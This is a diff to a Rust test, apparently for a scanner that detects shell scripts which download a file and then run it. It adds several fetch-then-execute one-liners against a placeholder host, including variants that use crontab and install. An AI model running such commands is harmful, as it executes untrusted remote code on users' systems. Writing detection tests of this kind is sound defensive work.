@@ -180,6 +180,10 @@ fn fetched_files_are_run() {
         "curl http://x.example/a >| f; sh f",
         "curl http://x.example/a | sponge f; sh f",
         "curl -o f http://x.example/a; torchrun f",
+        "{ curl http://x.example/a; } > f; sh f",
+        "(curl http://x.example/a) > f; sh f",
+        "curl http://x.example/a | install -m755 /dev/stdin f; ./f",
+        "curl -o f http://x.example/a; crontab f",
         "curl -o f http://x.example/a; uv run f",
     ] {
         let reading = parse(&FORMAT, "x.sh", text.as_bytes(), false);
